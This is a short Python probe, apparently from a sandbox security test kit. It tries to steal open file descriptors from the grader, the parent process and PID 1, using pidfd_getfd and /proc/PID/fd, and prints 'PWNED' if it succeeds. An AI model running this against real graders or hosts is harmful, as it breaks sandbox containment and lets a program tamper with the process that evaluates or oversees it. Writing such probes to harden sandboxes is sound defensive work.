"""Take an open file away from the grader or the parent: pidfd_getfd, and /proc/PID/fd.

Shows: PWNED on stdout.
"""

import os
from contextlib import suppress

from kit import nearby, own, pwned, syscall

for number in sorted({*nearby(), os.getppid(), 1} - {0}):
    handle = syscall("pidfd_open", number, 0)
    if handle >= 0:
        for descriptor in range(12):
            if syscall("pidfd_getfd", handle, descriptor, 0) >= 0:
                pwned("pidfd_getfd", number, descriptor)
                break
        os.close(handle)
    if number in own():
        continue
    with suppress(OSError):
        for name in os.listdir(f"/proc/{number}/fd"):
            with suppress(OSError):
                os.close(os.open(f"/proc/{number}/fd/{name}", os.O_RDWR))
                pwned("/proc", number, name)
                break
